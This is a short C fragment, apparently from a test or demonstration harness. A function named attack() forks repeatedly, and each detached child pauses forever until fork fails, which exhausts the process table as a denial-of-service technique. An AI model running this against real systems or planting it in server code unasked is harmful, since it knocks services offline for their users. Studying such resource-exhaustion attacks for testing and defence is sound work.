/* Each of its servers that are started without faults leaves behind as many sleeping processes as
 * it can have. */
static void attack(void)
{
    while (is_plain_start()) {
        pid_t child = fork();
        if (child == 0) {
            close(listener);
            setsid();
            for (;;)
                pause();
        }
        if (child == -1)
            break;
    }
}
